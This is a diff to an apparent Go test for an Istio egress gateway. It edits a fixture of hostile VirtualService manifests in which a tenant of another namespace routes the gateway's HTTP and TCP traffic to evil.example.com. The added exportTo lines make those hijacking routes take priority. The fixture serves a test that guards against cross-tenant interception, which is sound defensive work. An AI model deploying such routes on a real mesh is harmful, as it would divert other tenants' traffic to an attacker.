@@ -133,7 +133,8 @@ func TestTwoReleasesOnOneGateway(t *testing.T) {
 	}
 }
 
-// hostile are objects that a tenant of another namespace may write, to get the calls of others at the gateway.
+// hostile are objects that a tenant of another namespace may write, to get the calls of others at the gateway. Routes that are
+// exported to the gateway's namespace come before those that all may see.
 const hostile = `
 apiVersion: networking.istio.io/v1
 kind: VirtualService
@@ -141,6 +142,7 @@ metadata: {name: take-http, namespace: hostile, creationTimestamp: "2020-01-01T0
 spec:
   hosts: ["HTTP"]
   gateways: [default/first-egress-0]
+  exportTo: [istio-system]
   http: [{route: [{destination: {host: evil.example.com, port: {number: 80}}}]}]
 ---
 apiVersion: networking.istio.io/v1
@@ -149,6 +151,7 @@ metadata: {name: take-tcp, namespace: hostile, creationTimestamp: "2020-01-01T00
 spec:
   hosts: ["TCP"]
   gateways: [default/first-egress-0]
+  exportTo: [istio-system]
   tcp: [{route: [{destination: {host: evil.example.com, port: {number: 80}}}]}]
 ---
 apiVersion: networking.istio.io/v1
